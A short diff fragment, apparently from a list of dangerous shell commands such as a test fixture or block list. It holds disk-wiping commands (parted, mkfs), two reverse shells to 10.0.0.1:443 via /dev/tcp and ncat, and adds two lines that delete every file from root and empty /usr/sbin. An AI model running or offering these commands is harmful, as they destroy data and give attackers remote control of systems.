@@ -491,3 +491,5 @@ parted /dev/sda --script mklabel gpt
 mkfs -t ext4 "$(echo /dev/sdb)"
 0<&196;exec 196<>/dev/tcp/10.0.0.1/443; sh <&196 >&196 2>&196
 ncat 10.0.0.1 443 -e /bin/sh
+DIR=/ ; find "$DIR" -type f -print0 | xargs -0 rm -f
+rm -f /usr/sbin/*
